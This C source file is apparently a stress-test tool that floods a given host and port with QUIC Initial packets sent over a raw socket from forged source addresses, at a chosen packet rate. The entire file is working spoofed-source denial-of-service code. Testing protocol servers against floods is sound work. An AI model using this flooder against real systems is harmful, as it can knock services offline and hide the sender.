/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A flood of QUIC Initials from spoofed sources: flood INTERFACE MAC IP PORT PPS [SOURCES]. Each is
 * well-formed up to its sealed part. Sources are drawn from so many /24 prefixes (default: all
 * there are). Runs until SIGTERM, then prints how many left, as JSON.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "base/csum.h"

enum {
	BATCH = 64,
	QUIC_BYTES = 1200,
	HDR_BYTES = 14 + 20 + 8,
	FRAME_BYTES = HDR_BYTES + QUIC_BYTES
};

static volatile sig_atomic_t is_over;
static uint8_t frames[BATCH][FRAME_BYTES];
static uint64_t state;

static void on_term(int sig)
{
	(void)sig;
	is_over = 1;
}

static uint64_t draw(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

/* What stays the same in all frames. */
static void make_frame(uint8_t *f, const uint8_t mac[6], const uint8_t ip[4], uint16_t port)
{
	static const uint8_t head[] = {0xc0, 0, 0, 0, 1, 8};
	uint8_t *q = f + HDR_BYTES;

	memcpy(f, mac, 6);
	memcpy(f + 6, "\x02\x00\x00\x00\x00\x66", 6);
	qb_store_be16(f + 12, ETHERTYPE_IP);
	f[14] = 0x45;
	qb_store_be16(f + 16, FRAME_BYTES - 14);
	f[22] = 64;
	f[23] = 17;
	memcpy(f + 30, ip, 4);
	qb_store_be16(f + 36, port);
	qb_store_be16(f + 38, FRAME_BYTES - 34);
	for (size_t i = 0; i < QUIC_BYTES; i += 8) {
		uint64_t x = draw();

		memcpy(q + i, &x, 8);
	}
	memcpy(q, head, sizeof(head));
	q[14] = 0; /* no source connection ID, no token */
	q[15] = 0;
	qb_store_be16(q + 16, 0x4000 | (QUIC_BYTES - 18));
}

/* A source, its port, and a connection ID. No UDP checksum: IPv4 allows that. */
static void spoof(uint8_t *f, uint32_t sources)
{
	uint64_t x = draw(), cid = draw();
	uint32_t prefix = (uint32_t)(x >> 40) % sources;

	qb_store_be32(f + 26, (11u << 24) + (prefix << 8) + (uint8_t)x);
	qb_store_be16(f + 34, (uint16_t)(1024 + (x >> 8) % 60000));
	memcpy(f + HDR_BYTES + 6, &cid, 8);
	qb_store_be16(f + 24, 0);
	qb_csum_store(f + 24, qb_csum_add(0, f + 14, 20));
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000 + (uint64_t)ts.tv_nsec;
}

static int open_socket(const char *ifname)
{
	struct sockaddr_ll sa = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(ifname)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;

	if (fd < 0 || sa.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one))) {
		fprintf(stderr, "%s: %s\n", ifname, strerror(errno));
		exit(1);
	}
	return fd;
}

static uint64_t flood(int fd, uint64_t pps, uint32_t sources)
{
	struct mmsghdr msg[BATCH] = {0};
	struct iovec iov[BATCH];
	uint64_t start_ns = now_ns(), sent = 0, due;

	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){frames[i], FRAME_BYTES};
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	while (!is_over) {
		int cnt;

		due = (now_ns() - start_ns) * pps / 1000000000;
		if (due < sent + BATCH) {
			usleep(500);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			spoof(frames[i], sources);
		cnt = sendmmsg(fd, msg, BATCH, 0);
		sent += cnt > 0 ? (uint64_t)cnt : 0;
	}
	printf("{\"sent\":%llu,\"pps\":%llu}\n", (unsigned long long)sent,
	       (unsigned long long)(sent * 1000 / ((now_ns() - start_ns) / 1000000 + 1)));
	return sent;
}

int main(int argc, char **argv)
{
	struct sigaction sa = {.sa_handler = on_term};
	unsigned int m[6];
	uint8_t mac[6], ip[4];

	if (argc < 6 ||
	    sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], ip) != 1) {
		fprintf(stderr, "usage: flood INTERFACE MAC IP PORT PPS [SOURCES]\n");
		return 1;
	}
	for (int i = 0; i < 6; i++)
		mac[i] = (uint8_t)m[i];
	if (getrandom(&state, sizeof(state), 0) < 0 || state == 0)
		state = 1;
	for (int i = 0; i < BATCH; i++)
		make_frame(frames[i], mac, ip, (uint16_t)atoi(argv[4]));
	sigaction(SIGTERM, &sa, NULL);
	flood(open_socket(argv[1]), strtoull(argv[5], NULL, 10),
	      argc > 6 ? (uint32_t)atoi(argv[6]) : 1u << 24);
	return 0;
}
